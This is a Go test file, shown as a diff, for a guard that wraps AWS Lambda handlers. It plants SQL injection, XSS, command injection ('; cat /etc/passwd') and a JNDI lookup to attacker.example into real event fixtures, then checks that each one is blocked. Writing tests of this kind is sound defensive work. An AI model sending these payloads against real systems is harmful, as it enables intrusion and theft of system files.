@@ -1,0 +1,327 @@
+package guardlambda
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/aws/aws-lambda-go/lambda"
+
+	"github.com/fnguard/fnguard/guard"
+)
+
+// Attacks planted in real events of every family, in the fields their
+// platform fills from client input, encoded as the platform encodes them.
+// Each must be blocked with the answer the platform expects, and the
+// handler must not run (Firehose: not for the poisoned record).
+
+const (
+	atkSQLi = "1' OR '1'='1' --"
+	atkXSS  = "<script>alert(document.cookie)</script>"
+	atkCmdI = "; cat /etc/passwd"
+	atkJNDI = "${jndi:ldap://attacker.example/a}"
+)
+
+// realEvent reads a fixture under testdata/real and lets edit change its
+// decoded JSON.
+func plant(t *testing.T, rel string, edit func(m any)) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("testdata", "real", rel))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var m any
+	if err := json.Unmarshal(b, &m); err != nil {
+		t.Fatal(err)
+	}
+	edit(m)
+	out, err := json.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// at walks decoded JSON: keys for objects, ints for arrays.
+func at(m any, path ...any) any {
+	for _, p := range path {
+		switch k := p.(type) {
+		case string:
+			m = m.(map[string]any)[k]
+		case int:
+			m = m.([]any)[k]
+		}
+	}
+	return m
+}
+
+func obj(m any, path ...any) map[string]any { return at(m, path...).(map[string]any) }
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+type answerCheck func(t *testing.T, out []byte, err error)
+
+// wantError: a *guard.BlockedError (guard.ErrBlocked) with a finding at loc.
+func wantError(loc string) answerCheck {
+	return func(t *testing.T, out []byte, err error) {
+		t.Helper()
+		var be *guard.BlockedError
+		if !errors.As(err, &be) || !errors.Is(err, guard.ErrBlocked) {
+			t.Fatalf("got %s, %v; want a *guard.BlockedError", out, err)
+		}
+		for _, f := range be.Decision.Findings {
+			if f.Location == loc {
+				return
+			}
+		}
+		t.Fatalf("no finding at %s: %+v", loc, be.Decision.Findings)
+	}
+}
+
+// wantJSON: no error, and a JSON answer with these members (compared as
+// decoded JSON; nested values by their JSON encoding).
+func wantJSON(want map[string]string) answerCheck {
+	return func(t *testing.T, out []byte, err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatalf("error %v; want an answer", err)
+		}
+		var m map[string]json.RawMessage
+		if err := json.Unmarshal(out, &m); err != nil {
+			t.Fatalf("answer %s is not a JSON object: %v", out, err)
+		}
+		for k, v := range want {
+			if string(m[k]) != v {
+				t.Fatalf("answer %s: %s is %s, want %s", out, k, m[k], v)
+			}
+		}
+	}
+}
+
+func denyPolicyCheck(simple bool, resource string) answerCheck {
+	return func(t *testing.T, out []byte, err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatalf("error %v; an authorizer must answer with a policy", err)
+		}
+		var resp struct {
+			IsAuthorized   *bool  `json:"isAuthorized"`
+			StatusCode     *int   `json:"statusCode"`
+			PrincipalID    string `json:"principalId"`
+			PolicyDocument struct {
+				Version   string
+				Statement []struct{ Action, Effect, Resource string }
+			} `json:"policyDocument"`
+		}
+		if err := json.Unmarshal(out, &resp); err != nil {
+			t.Fatalf("answer %s: %v", out, err)
+		}
+		st := resp.PolicyDocument.Statement
+		if resp.StatusCode != nil || resp.PrincipalID == "" || len(st) != 1 || st[0].Effect != "Deny" ||
+			st[0].Action != "execute-api:Invoke" || st[0].Resource != resource || resp.PolicyDocument.Version != "2012-10-17" {
+			t.Fatalf("answer %s is not a Deny policy on %s", out, resource)
+		}
+		if simple != (resp.IsAuthorized != nil) || resp.IsAuthorized != nil && *resp.IsAuthorized {
+			t.Fatalf("answer %s: isAuthorized must be false for payload 2.0 and absent otherwise", out)
+		}
+	}
+}
+
+func TestFamilyAttacks(t *testing.T) {
+	tests := []struct {
+		name    string
+		fixture string
+		edit    func(m any)
+		check   answerCheck
+	}{
+		{"REST TOKEN authorizer: SQLi in the token", "aws-lambda-go/events/apigw-custom-auth-request.json",
+			func(m any) { obj(m)["authorizationToken"] = "Bearer " + atkSQLi },
+			denyPolicyCheck(false, "arn:aws:execute-api:us-west-2:123456789012:ymy8tbxw7b/*/GET/")},
+		{"REST REQUEST authorizer: XSS in a query parameter", "aws-lambda-go/events/apigw-custom-auth-request-type-request.json",
+			func(m any) {
+				obj(m, "queryStringParameters")["QueryString1"] = atkXSS
+				obj(m, "multiValueQueryStringParameters")["QueryString1"] = []any{atkXSS}
+			},
+			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:s4x3opwd6i/test/GET/request")},
+		{"HTTP API payload 1.0 authorizer: cmdi in a header", "aws-lambda-go/events/apigw-v2-custom-authorizer-v1-request.json",
+			func(m any) { obj(m, "headers")["X-Order"] = atkCmdI },
+			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/test/GET/request")},
+		{"HTTP API payload 2.0 authorizer: JNDI in a header", "aws-lambda-go/events/apigw-v2-custom-authorizer-v2-request.json",
+			func(m any) { obj(m, "headers")["x-order"] = atkJNDI },
+			denyPolicyCheck(true, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/test/GET/request")},
+		{"WebSocket $connect authorizer: SQLi in the query", "powertools-typescript/packages/parser/tests/events/apigw-websocket/connectEvent.json",
+			func(m any) {
+				obj(m)["queryStringParameters"] = map[string]any{"room": atkSQLi}
+				obj(m)["multiValueQueryStringParameters"] = map[string]any{"room": []any{atkSQLi}}
+			},
+			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/default/$connect")},
+		{"WebSocket message: SQLi in the body", "aws-lambda-go/events/apigw-websocket-request-send-message.json",
+			func(m any) { obj(m)["body"] = `{"action":"sendmessage","data":"` + atkSQLi + `"}` },
+			wantJSON(map[string]string{"statusCode": "403"})},
+		{"WebSocket $connect: XSS in the query", "aws-lambda-go/events/apigw-websocket-request.json",
+			func(m any) {
+				obj(m, "queryStringParameters")["name"] = atkXSS
+				obj(m, "multiValueQueryStringParameters")["name"] = []any{atkXSS}
+			},
+			wantJSON(map[string]string{"statusCode": "403"})},
+		{"AppSync resolver: SQLi in an argument", "powertools-python/appSyncDirectResolver.json",
+			func(m any) { obj(m, "arguments")["id"] = atkSQLi },
+			wantError("arguments.id")},
+		{"AppSync resolver (mapping template form): XSS in an argument", "powertools-python/appSyncResolverEvent.json",
+			func(m any) { obj(m, "arguments")["name"] = atkXSS },
+			wantError("arguments.name")},
+		{"AppSync batch: cmdi in the second call's argument", "powertools-python/appSyncBatchEvent.json",
+			func(m any) { obj(m, 1, "arguments")["name"] = atkCmdI },
+			wantError("records[1].arguments.name")},
+		{"AppSync authorizer: XSS in a literal of the query", "powertools-python/appSyncAuthorizerEvent.json",
+			func(m any) {
+				rc := obj(m, "requestContext")
+				rc["queryString"] = strings.Replace(rc["queryString"].(string), `owner: \"ccc\"`, `owner: "`+strings.ReplaceAll(atkXSS, `"`, `\"`)+`"`, 1)
+				rc["queryString"] = strings.Replace(rc["queryString"].(string), `owner: "ccc"`, `owner: "`+atkXSS+`"`, 1)
+			},
+			wantJSON(map[string]string{"isAuthorized": "false"})},
+		{"AppSync authorizer: SQLi in a variable", "powertools-python/appSyncAuthorizerEvent.json",
+			func(m any) { obj(m, "requestContext", "variables")["desc"] = atkSQLi },
+			wantJSON(map[string]string{"isAuthorized": "false"})},
+		{"VPC Lattice v1: SQLi in the base64 body", "powertools-python/vpcLatticeEvent.json",
+			func(m any) { obj(m)["body"] = b64(`{"test":"` + atkSQLi + `"}`) },
+			wantJSON(map[string]string{"statusCode": "403", "statusDescription": `"403 Forbidden"`})},
+		{"VPC Lattice v2: cmdi in a multi-value header", "powertools-python/vpcLatticeV2EventWithHeaders.json",
+			func(m any) { obj(m, "headers")["x-order"] = []any{"ok", atkCmdI} },
+			wantJSON(map[string]string{"statusCode": "403"})},
+		{"Cognito pre sign-up: XSS in a user attribute", "aws-lambda-go/events/cognito-event-userpools-presignup.json",
+			func(m any) { obj(m, "request", "userAttributes")["name"] = atkXSS },
+			wantError("request.userAttributes.name")},
+		{"MSK: SQLi in a base64 value", "aws-lambda-go/events/kafka-event.json",
+			func(m any) {
+				r := obj(m, "records", "AWSKafkaTopic-0", 0)
+				r["value"] = b64(`{"order":"` + atkSQLi + `"}`)
+			},
+			wantError("records[0].value.order")},
+		{"self-managed Kafka: cmdi in a header's bytes", "powertools-python/kafkaEventSelfManaged.json",
+			func(m any) {
+				r := obj(m, "records", "mytopic-0", 0)
+				var bs []any
+				for _, c := range []byte(atkCmdI) {
+					bs = append(bs, float64(c))
+				}
+				r["headers"] = []any{map[string]any{"x-cmd": bs}}
+			},
+			wantError(`records[0].headers[0]["x-cmd"]`)},
+		{"ActiveMQ: cmdi in base64 data", "aws-lambda-go/events/activemq-event.json",
+			func(m any) { obj(m, "messages", 0)["data"] = b64("run " + atkCmdI) },
+			wantError("records[0].data")},
+		{"RabbitMQ: JNDI in base64 data", "aws-lambda-go/events/rabbitmq-event.json",
+			func(m any) { obj(m, "rmqMessagesByQueue", "test::/", 0)["data"] = b64(`{"user":"` + atkJNDI + `"}`) },
+			wantError("records[0].data.user")},
+		{"SES: XSS in the subject", "aws-lambda-go/events/ses-lambda-event.json",
+			func(m any) { obj(m, "Records", 0, "ses", "mail", "commonHeaders")["subject"] = atkXSS },
+			wantError("records[0].ses.mail.commonHeaders.subject")},
+		{"CodeCommit: cmdi in a pushed branch name", "aws-lambda-go/events/code-commit-event.json",
+			func(m any) { obj(m, "Records", 0, "codecommit", "references", 0)["ref"] = "refs/heads/x" + atkCmdI },
+			wantError("records[0].codecommit.references[0].ref")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			g, _ := testGuard(t)
+			payload := plant(t, tt.fixture, tt.edit)
+			ran := false
+			h := WrapHandler(g, lambda.NewHandler(func(context.Context, json.RawMessage) (any, error) {
+				ran = true
+				return nil, nil
+			}))
+			out, err := h.Invoke(lambdaCtx("req-atk"), payload)
+			if ran {
+				t.Fatalf("the handler ran; answer %s, %v", out, err)
+			}
+			tt.check(t, out, err)
+			// The unpoisoned fixture passes.
+			clean := plant(t, tt.fixture, func(any) {})
+			ran = false
+			if out, err := h.Invoke(lambdaCtx("req-ok"), clean); err != nil || !ran {
+				t.Fatalf("clean fixture: %s, %v", out, err)
+			}
+		})
+	}
+}
+
+// TestFirehosePartial: a poisoned Firehose record comes back with result
+// ProcessingFailed and its data unchanged, the clean one reaches the
+// handler, whose response is kept.
+func TestFirehosePartial(t *testing.T) {
+	g, _ := testGuard(t)
+	var poisoned string
+	payload := plant(t, "aws-lambda-go/events/kinesis-firehose-event.json", func(m any) {
+		poisoned = b64(`{"comment":"` + atkXSS + `"}`)
+		obj(m, "records", 1)["data"] = poisoned
+	})
+	var got []string
+	h := WrapHandler(g, lambda.NewHandler(func(_ context.Context, e struct {
+		Records []struct {
+			RecordID string `json:"recordId"`
+			Data     []byte `json:"data"`
+		} `json:"records"`
+	}) (any, error) {
+		type rec struct {
+			RecordID string `json:"recordId"`
+			Result   string `json:"result"`
+			Data     []byte `json:"data"`
+		}
+		var out struct {
+			Records []rec `json:"records"`
+		}
+		for _, r := range e.Records {
+			got = append(got, r.RecordID)
+			out.Records = append(out.Records, rec{r.RecordID, "Ok", r.Data})
+		}
+		return out, nil
+	}))
+	out, err := h.Invoke(lambdaCtx("req-fh"), payload)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 1 || got[0] != "record1" {
+		t.Fatalf("handler got %v, want only record1", got)
+	}
+	var resp struct {
+		Records []struct{ RecordID, Result, Data string }
+	}
+	if err := json.Unmarshal(out, &resp); err != nil {
+		t.Fatalf("%s: %v", out, err)
+	}
+	if len(resp.Records) != 2 || resp.Records[0].RecordID != "record1" || resp.Records[0].Result != "Ok" ||
+		resp.Records[1].RecordID != "record2" || resp.Records[1].Result != "ProcessingFailed" || resp.Records[1].Data != poisoned {
+		t.Fatalf("response %s", out)
+	}
+
+	// Every record poisoned: no handler call, all ProcessingFailed.
+	all := plant(t, "aws-lambda-go/events/kinesis-firehose-event.json", func(m any) {
+		for i := range 2 {
+			obj(m, "records", i)["data"] = b64(atkSQLi)
+		}
+	})
+	got = nil
+	out, err = h.Invoke(lambdaCtx("req-fh2"), all)
+	if err != nil || len(got) != 0 {
+		t.Fatalf("%s, %v, handler got %v", out, err, got)
+	}
+	if strings.Count(string(out), `"result":"ProcessingFailed"`) != 2 {
+		t.Fatalf("response %s", out)
+	}
+}
+
+// TestNoGuardFamilies: a nil guard denies at authorizers rather than
+// failing (which API Gateway would turn into a 500).
+func TestNoGuardFamilies(t *testing.T) {
+	h := WrapHandler(nil, lambda.NewHandler(func(context.Context, json.RawMessage) (any, error) { return nil, nil }))
+	out, err := h.Invoke(lambdaCtx("r"), plant(t, "aws-lambda-go/events/apigw-custom-auth-request.json", func(any) {}))
+	denyPolicyCheck(false, "arn:aws:execute-api:us-west-2:123456789012:ymy8tbxw7b/*/GET/")(t, out, err)
+	if _, err := h.Invoke(lambdaCtx("r"), plant(t, "aws-lambda-go/events/kafka-event.json", func(any) {})); !errors.Is(err, guard.ErrNoGuard) {
+		t.Fatalf("kafka with a nil guard: %v", err)
+	}
+}
